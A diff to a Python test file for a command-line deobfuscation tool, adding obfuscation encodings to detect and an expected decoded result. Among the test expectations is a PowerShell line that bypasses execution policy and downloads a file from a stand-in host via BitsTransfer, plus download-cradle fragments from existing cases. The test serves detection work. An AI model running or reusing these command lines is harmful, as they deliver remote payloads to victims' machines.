@@ -215,7 +215,24 @@ def test_adversarial_megabyte_is_bounded(name: str) -> None:
 # -- real command lines: the new layers fire only on real obfuscation -----------------------
 
 NEW_ENCODINGS = frozenset(
-    {"ps_concat", "ps_format", "ps_join", "ps_backtick", "html_entity", "js_charcode", "js_escape"}
+    {
+        "ps_concat",
+        "ps_format",
+        "ps_join",
+        "ps_backtick",
+        "ps_replace",
+        "ps_reverse",
+        "ps_bxor",
+        "ps_iex",
+        "cmd_caret",
+        "cmd_var",
+        "vba_chr",
+        "html_entity",
+        "js_charcode",
+        "js_escape",
+        "js_unescape",
+        "xor",
+    }
 )
 
 
@@ -256,6 +273,12 @@ def test_real_command_lines_deobfuscate_only_obfuscated_ones(shared_data: Path) 
         ("ps_concat", "http://pastebbin/raw/pqCwEm17"),
         ("ps_backtick", "nEW-obJEcT"),
         ("ps_backtick", ".WebClient"),
+        (
+            "cmd_caret",
+            ".\\pOWErSHElL.eXe -ExEcUtIoNpOliCy BYpasS imPOrT-MoDuLE biTsTrANSFeR;"
+            "Start-bITSTRanSfER -SOURCE 'http://somedomain/best-kitten-names-1.jpg' "
+            "-dEStINAtIOn 'C:\\Users\\",
+        ),
     }
     # The one percent layer is the Zoom link whose parameters hold base64 (as before); the
     # Safe Links URL that percent-encodes its target stays alone.
